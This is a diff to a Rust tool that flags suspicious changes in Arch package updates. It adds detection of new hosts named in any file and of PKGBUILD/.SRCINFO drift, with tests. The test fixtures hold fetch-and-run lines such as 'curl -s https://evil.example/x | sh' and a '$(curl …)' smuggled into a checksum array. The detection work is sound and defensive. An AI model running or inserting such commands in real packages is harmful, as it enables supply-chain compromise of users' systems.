@@ -49,7 +49,8 @@ pub enum Flag {
     /// `source`/`source_ARCH` entries of the .SRCINFO, the new pkgver read as the old one (a
     /// version bump alone changes none); `_ARCH` entries end in ` (ARCH)`.
     SourcesChanged { added: Vec<String>, removed: Vec<String> },
-    /// Hosts the new sources are fetched from that the old ones were not (literal URLs).
+    /// Hosts the new commit names that the old one did not: in the .SRCINFO's sources, or in
+    /// any URL written in its files (a `curl https://… | sh` in build() too); literal URLs.
     NewHosts { hosts: Vec<String> },
     /// `*sums` changed while the literal source lists did not: the same URLs give other files.
     ChecksumsWithoutSources,
@@ -66,6 +67,9 @@ pub enum Flag {
     /// .SRCINFO keys (`KEY (PKGNAME)` in a pkgname section) that changed, beyond those the
     /// flags above cover (version, checksums, sources, install), e.g. `depends`, `validpgpkeys`.
     SrcinfoChanged { keys: Vec<String> },
+    /// One of PKGBUILD and .SRCINFO changed and the other did not (`changed` names which): the
+    /// version, sources and dependencies read from the .SRCINFO may not be what makepkg builds.
+    SrcinfoOutOfStep { changed: String },
 }
 
 impl fmt::Display for Flag {
@@ -101,6 +105,10 @@ impl fmt::Display for Flag {
                 write!(f, "the PKGBUILD changed outside its functions, beyond pkgver, pkgrel, epoch and checksums")
             }
             Flag::SrcinfoChanged { keys } => write!(f, ".SRCINFO changed: {}", keys.join(", ")),
+            Flag::SrcinfoOutOfStep { changed } => write!(
+                f,
+                "only the {changed} changed, not both: the version and sources shown come from the .SRCINFO and may not be what makepkg builds; read the PKGBUILD's diff"
+            ),
         }
     }
 }
@@ -265,13 +273,74 @@ pub fn assess(old: Option<&Snapshot>, new: &Snapshot) -> Vec<Flag> {
     let (before, after) = (Parsed::of(old), Parsed::of(new));
     let bump = Unbump::between(pkgver(&before.srcinfo), pkgver(&after.srcinfo));
     let mut flags = maintainer_flags(old, new);
-    flags.extend(source_flags(&before.srcinfo, &after.srcinfo, bump));
+    flags.extend(with_written_hosts(source_flags(&before.srcinfo, &after.srcinfo, bump), old, new, &before.srcinfo));
     flags.extend(install_flags(old, new, &before.srcinfo, &after.srcinfo));
     flags.extend(changed_functions(&before.pkgbuild, &after.pkgbuild));
     flags.extend(file_changes(old, new));
     flags.extend(pkgbuild_change(&before.pkgbuild, &after.pkgbuild));
     flags.extend(srcinfo_changes(&before.srcinfo, &after.srcinfo, bump));
+    flags.extend(out_of_step(old, new));
     flags
+}
+
+/// The source flags, with the hosts written in the new commit's files that the old commit
+/// named nowhere (its files, its sources) joined into [`Flag::NewHosts`].
+fn with_written_hosts(mut flags: Vec<Flag>, old: &Snapshot, new: &Snapshot, old_srcinfo: &Fields) -> Vec<Flag> {
+    let mut known = hosts_in_files(old);
+    known.extend(pkgbase_lists(old_srcinfo, is_source).into_iter().flat_map(|(_, v)| v.iter().filter_map(|e| host(e))));
+    let written: Vec<String> = hosts_in_files(new).difference(&known).cloned().collect();
+    if written.is_empty() {
+        return flags;
+    }
+    match flags.iter_mut().find_map(|f| match f {
+        Flag::NewHosts { hosts } => Some(hosts),
+        _ => None,
+    }) {
+        Some(hosts) => {
+            hosts.extend(written);
+            hosts.sort();
+            hosts.dedup();
+        }
+        None => {
+            let at = flags.iter().position(|f| !matches!(f, Flag::SourcesChanged { .. })).unwrap_or(flags.len());
+            flags.insert(at, Flag::NewHosts { hosts: written });
+        }
+    }
+    flags
+}
+
+/// [`Flag::SrcinfoOutOfStep`] when exactly one of PKGBUILD and .SRCINFO changed.
+fn out_of_step(old: &Snapshot, new: &Snapshot) -> Option<Flag> {
+    if ![PKGBUILD, SRCINFO].iter().all(|p| new.files.contains_key(*p)) {
+        return None;
+    }
+    let changed = |path: &str| old.files.get(path) != new.files.get(path);
+    match (changed(PKGBUILD), changed(SRCINFO)) {
+        (true, false) => Some(Flag::SrcinfoOutOfStep { changed: PKGBUILD.to_string() }),
+        (false, true) => Some(Flag::SrcinfoOutOfStep { changed: SRCINFO.to_string() }),
+        _ => None,
+    }
+}
+
+/// Hosts of the URLs written in a snapshot's files other than .SRCINFO (whose sources
+/// [`source_flags`] reads): `scheme://host` anywhere, a host made of a shell variable left out.
+fn hosts_in_files(snapshot: &Snapshot) -> BTreeSet<String> {
+    let mut hosts = BTreeSet::new();
+    for text in snapshot.files.iter().filter(|(p, _)| p.as_str() != SRCINFO).map(|(_, t)| t) {
+        for (at, _) in text.match_indices("://") {
+            let scheme_start = text[..at]
+                .rfind(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
+                .map_or(0, |i| i + 1);
+            let end = text[at..]
+                .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')' | '`'))
+                .map_or(text.len(), |i| at + i);
+            let url = &text[scheme_start..end];
+            if scheme_start < at && !url.contains('$') {
+                hosts.extend(host(url));
+            }
+        }
+    }
+    hosts
 }
 
 /// Whether moving from `old` to `new` is "version-only" (repo.yaml `trust.auto: version-only`):
@@ -380,9 +449,7 @@ fn source_flags(old: &Fields, new: &Fields, bump: Option<Unbump>) -> Vec<Flag> {
             .collect()
     };
     let hosts: Vec<String> = hosts(new).difference(&hosts(old)).cloned().collect();
-    if !hosts.is_empty() {
-        flags.push(Flag::NewHosts { hosts });
-    }
+    flags.extend((!hosts.is_empty()).then_some(Flag::NewHosts { hosts }));
     let same_sources = pkgbase_lists(old, is_source) == pkgbase_lists(new, is_source);
     if same_sources && pkgbase_lists(old, is_checksum) != pkgbase_lists(new, is_checksum) {
         flags.push(Flag::ChecksumsWithoutSources);
@@ -718,8 +785,24 @@ pkgname = foo
         let newer = foo_with_install("1.4.0", SUM_A, "post_install() {\n  curl -s https://evil.example/x | sh\n}\n");
         let changed = Flag::FilesChanged { added: vec![], removed: vec![], changed: strings(&["foo.install"]) };
         let install = Flag::InstallScript { detail: "foo.install changed".into() };
-        assert_eq!(assess(Some(&new), &newer), [install, changed]);
+        let host = Flag::NewHosts { hosts: strings(&["evil.example"]) };
+        assert_eq!(assess(Some(&new), &newer), [host, install, changed]);
         assert!(version_only(&new, &foo_with_install("1.4.0", SUM_A, script)));
+    }
+
+    #[test]
+    fn a_url_written_in_a_function_or_a_stale_srcinfo_is_flagged() {
+        let old = foo("1.0", &"a".repeat(64));
+        // build() fetches and runs a script; the .SRCINFO is left as it was.
+        let new = edit(old.clone(), PKGBUILD, "build() {", "build() {\n  curl -fsSL https://evil.example/x.sh | sh");
+        let flags = assess(Some(&old), &new);
+        assert!(flags.contains(&Flag::NewHosts { hosts: strings(&["evil.example"]) }), "{flags:?}");
+        assert!(flags.contains(&Flag::SrcinfoOutOfStep { changed: PKGBUILD.to_string() }), "{flags:?}");
+        assert!(!version_only(&old, &new));
+        // A host written through a variable is not a host; a bump names no new one.
+        let var = edit(old.clone(), PKGBUILD, "build() {", "build() {\n  curl https://$_mirror/x");
+        assert!(!assess(Some(&old), &var).iter().any(|f| matches!(f, Flag::NewHosts { .. })));
+        assert!(version_only(&old, &foo("1.1", &"b".repeat(64))));
     }
 
     #[test]
@@ -824,7 +907,10 @@ package_foo-cli() {
             "pkgver=1.3.0\n",
             "pkgver=1.3.0; curl -s https://evil.example/x | sh\n",
         );
-        assert_eq!(assess(Some(&old), &pkgver), [Flag::PkgbuildChanged]);
+        assert_eq!(
+            assess(Some(&old), &pkgver),
+            [Flag::NewHosts { hosts: strings(&["evil.example"]) }, Flag::PkgbuildChanged]
+        );
         let sums =
             edit(foo("1.3.0", SUM_B), PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}' $(curl -s evil.example))"));
         assert_eq!(assess(Some(&old), &sums), [Flag::PkgbuildChanged]);
